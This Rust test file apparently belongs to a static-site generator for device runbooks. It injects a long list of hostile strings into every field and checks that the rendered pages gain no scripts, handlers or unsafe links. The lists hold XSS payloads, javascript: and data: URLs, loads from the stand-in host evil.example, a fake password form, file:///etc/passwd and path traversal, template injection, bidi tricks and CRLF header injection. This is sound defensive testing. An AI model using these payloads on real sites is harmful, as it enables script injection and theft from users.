//! Puts hostile words into every field of every kind, and looks at every page that comes of it: there
//! is no element and no attribute on it that harmless words do not give as well, and no address that
//! does more than open what it names.
//!
//! Words come from banners, host names, tickets and imports, so whoever can write to a device can
//! write to a runbook; its pages are opened by engineers and owners who trust them.
#![allow(clippy::disallowed_methods, reason = "tests and tools use the disk")]

mod every_kind;

use std::collections::BTreeSet;
use std::sync::LazyLock;

use clearjar::artifact::{Artifact, Artifacts};
use clearjar::diagnostic::{Diagnostics, Level};
use clearjar::pipeline::{self, Inputs};
use clearjar::source::SourceTree;
use every_kind::Words;
use rayon::prelude::*;
use scraper::{ElementRef, Html};

/// What somebody might try. Each is tried in every field by itself, and all of them together.
const HOSTILE: &[&str] = &[
    // Elements.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=p type=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Ends of what the theme has opened.
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></select></option></pre></code></td></table></main></body><b>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--",
    "<!--symbols-->",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "<%= 7*7 %>",
    // Attributes.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1) `",
    "x\" style=\"position:fixed;inset:0",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "/><script>alert(1)</script>",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    // Entities and encodings.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x6A;avascript:alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // What templates, styles and spreadsheets would act on.
    "{{ 7*7 }}",
    "{% raw %}",
    "{% include \"base.html\" %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "{{ __tera_context }}",
    "{{ page | safe }}",
    "[[device/device-1|<b onclick=alert(1)>x</b>]]",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "expression(alert(1)); url(javascript:alert(1))",
    // What cannot be seen.
    "a\u{202e}gpj.exe",
    "a\u{2066}b\u{2069}c",
    "\u{200f}a\u{200e}",
    "a\u{0}b\u{7}c\u{8}d",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{9b}31m",
    "a\u{2028}b\u{2029}c",
    "\u{feff}a",
    "\r\n\r\nSet-Cookie: x=1",
];

/// What Markdown could make of it; all of these stand in a text of their own.
const HOSTILE_MARKDOWN: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](vbscript:a)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](\\\\\\\\evil.example\\\\a)",
    "[x](file:///etc/passwd)",
    "[x](https://a:b@evil.example)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
    "[r]: javascript:alert(1)\n\n[x][r]",
    "[[x\" onclick=\"alert(1)]]",
    "[[term/term-1#\" onclick=\"alert(1)|y]]",
    "# <img src=x onerror=alert(1)> {#\"><script>}",
    "1. step {#x\" onclick=\"alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "<b>*a*</b>",
    "<div>\n\n*a*\n\n</div>",
    "`<script>`",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;",
    "~~<s onclick=x>~~",
];

/// All that Markdown may make, so that its elements are known as harmless ones.
const HARMLESS_MARKDOWN: &str = "\
Plain words, *leaning*, **bold**, ~~gone~~, `code`, [a page](https://example.com), [its title](https://example.com \"Title\"),\n\
[[term/term-1]] and [[term/term-1|a term]], <it@example.com>, ![a plan](files/plan.txt)  \nand a new line.\n\n\
# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\n\
1. First. {#first}\n2. Second.\n\n   More of it.\n\n- a\n- b\n  - c\n\n- [ ] open\n- [x] done\n\n\
> Quoted.\n\n> [!NOTE]\n> Noted.\n\n> [!TIP]\n> A tip.\n\n> [!IMPORTANT]\n> Weighty.\n\n> [!WARNING]\n> Beware.\n\n> [!CAUTION]\n> Care.\n\n\
| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\nA note.[^n]\n\n[^n]: At the foot.\n\n---\n\n\
```\nplain\n```\n\n```sh\n# comment\necho \"$HOME\" | grep -v 'x' 12\n```\n\n```html\n<a href=\"x\">1</a>\n```\n\n\
Term `x` [not there](files/not-there.txt) and [refused](javascript:x) \u{202e}turned ![refused](https://example.com/x.png) [[nowhere]].\n\n5. Fifth.\n";

/// The one place that calls the program.
fn artifacts(tree: &SourceTree) -> Artifacts {
    let day = jiff::civil::date(2026, 11, 15);
    let found = Diagnostics::default();
    let inputs = Inputs::new(tree, &found, day);
    let (outcome, artifacts) = pipeline::run_in_memory(&inputs);
    let errors: Vec<_> =
        outcome.found.iter().filter(|found| found.level == Level::Error).take(9).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    artifacts
}

/// Returns the pages as text, by their path.
fn pages(artifacts: &Artifacts) -> Vec<(&str, &str)> {
    let pages: Vec<_> = artifacts
        .iter()
        .filter(|(path, _)| path.ends_with(".html"))
        .filter_map(|(path, artifact)| match artifact {
            Artifact::Bytes(bytes) => Some((path.as_str(), std::str::from_utf8(bytes).ok()?)),
            Artifact::Copy { .. } => None,
        })
        .collect();
    assert!(pages.len() > 60, "only {} pages were made", pages.len());
    pages
}

/// Every element, and every element with each of its attributes, on all pages.
fn vocabulary(artifacts: &Artifacts) -> BTreeSet<String> {
    let words_of = |(_, page): &(&str, &str)| -> BTreeSet<String> {
        let page = Html::parse_document(page);
        let elements = page.root_element().descendants().filter_map(ElementRef::wrap);
        let words = elements.flat_map(|element| {
            let name = element.value().name().to_owned();
            let attributes = element.value().attrs().map(|(key, _)| format!("{name} {key}"));
            attributes.chain([name.clone()]).collect::<Vec<_>>()
        });
        words.collect()
    };
    pages(artifacts).par_iter().map(words_of).reduce(BTreeSet::new, |mut all, some| {
        all.extend(some);
        all
    })
}

static HARMLESS: LazyLock<BTreeSet<String>> = LazyLock::new(|| {
    let tree = every_kind::runbook(&mut |words| match words {
        // What cannot be seen is spelt out in an element of its own.
        Words::Text => "Plain words \u{202e}".to_owned(),
        Words::Markdown => HARMLESS_MARKDOWN.to_owned(),
    });
    vocabulary(&artifacts(&tree))
});

fn look_at(tree: &SourceTree) {
    let artifacts = artifacts(tree);
    let new: Vec<String> = vocabulary(&artifacts).difference(&HARMLESS).cloned().collect();
    assert!(new.is_empty(), "pages have what harmless words do not give: {new:?}");
    let wrong: Vec<String> = pages(&artifacts).par_iter().flat_map(wrong_on).collect();
    let some = &wrong[..wrong.len().min(20)];
    assert!(wrong.is_empty(), "{} places are wrong, among them {some:#?}", wrong.len());
}

/// Returns what is wrong on a page.
fn wrong_on((path, text): &(&str, &str)) -> Vec<String> {
    let mut wrong: Vec<String> = Vec::new();
    if let Some(at) = text.find(is_unseen) {
        let around: String = text[..at].chars().rev().take(60).collect();
        let around: String = around.chars().rev().collect();
        let unseen = text[at..].chars().next();
        wrong.push(format!("{path}: {unseen:?} cannot be seen, behind {around:?}"));
    }
    let page = Html::parse_document(text);
    for element in page.root_element().descendants().filter_map(ElementRef::wrap) {
        for (key, value) in element.value().attrs() {
            if let Some(problem) = problem_of(element.value().name(), key, value) {
                wrong.push(format!(
                    "{path}: <{} {key}={value:?}>: {problem}",
                    element.value().name()
                ));
            }
        }
    }
    wrong
}

/// Controls, and the bidi controls of UAX #9.
fn is_unseen(c: char) -> bool {
    let is_bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    is_bidi || c.is_control() && !matches!(c, '\n' | '\t')
}

fn problem_of(element: &str, key: &str, value: &str) -> Option<&'static str> {
    if key.starts_with("on") {
        return Some("a handler");
    }
    let addresses = ["href", "src", "srcset", "action", "formaction", "data", "poster", "cite"];
    if addresses.contains(&key) || key.ends_with(":href") {
        let plain: String =
            value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
        let plain = plain.to_lowercase();
        let scheme = plain.split(['/', '?', '#']).next().unwrap_or_default().split_once(':');
        let known = ["http", "https", "mailto", "tel", "ssh", "sftp", "rdp"];
        let is_safe = match scheme {
            Some((scheme, _)) => known.contains(&scheme),
            None => !plain.starts_with("//") && !plain.starts_with('\\'),
        };
        if !is_safe {
            return Some("an address that does more than open what it names");
        }
        if scheme.is_some() && (key == "src" || element == "link") {
            return Some("loads from elsewhere");
        }
    }
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_:;.,%() #".contains(c);
    let acts = ["url", "expression", "position", "import"].iter().any(|it| value.contains(it));
    (key == "style" && (acts || !value.chars().all(is_plain))).then_some("a style of its own")
}

/// Returns a runbook in which the field after the next says the next hostile words, from `start` on.
fn one_by_one(start: usize) -> SourceTree {
    let (mut text, mut markdown) = (start, start);
    let in_markdown: Vec<&str> = HOSTILE.iter().chain(HOSTILE_MARKDOWN).copied().collect();
    every_kind::runbook(&mut |words| match words {
        Words::Text => {
            text += 1;
            HOSTILE[text % HOSTILE.len()].to_owned()
        }
        Words::Markdown => {
            markdown += 1;
            in_markdown[markdown % in_markdown.len()].to_owned()
        }
    })
}

#[test]
fn hostile_words_by_themselves_stay_words_in_every_field() {
    // Steps that share no factor with the number of words bring each word to each field in turn;
    // a few of them are enough here, since all are together in the next test.
    for start in [0, 17, 41] {
        look_at(&one_by_one(start));
    }
}

#[test]
fn all_hostile_words_together_stay_words_in_every_field() {
    let text = HOSTILE.join(" ");
    // Each in a paragraph of its own; what opens a block that is never closed comes last.
    let markdown =
        [HOSTILE.join("\n\n"), HOSTILE_MARKDOWN.join("\n\n"), "```".to_owned()].join("\n\n");
    look_at(&every_kind::runbook(&mut |words| match words {
        Words::Text => text.clone(),
        Words::Markdown => markdown.clone(),
    }));
}

#[test]
fn what_templates_would_act_on_is_shown_as_it_is_written() {
    let words = "{{ 7*7 }} {% raw %} {{ page }} {# x #}";
    let tree = every_kind::runbook(&mut |_| words.to_owned());
    let artifacts = artifacts(&tree);
    let pages = pages(&artifacts);
    let (_, page) = pages.iter().find(|(path, _)| *path == "devices/device-0.html").unwrap();
    let page = Html::parse_document(page);
    let text: String = page.root_element().text().collect();
    assert!(text.matches(words).count() > 20, "{text}");
}
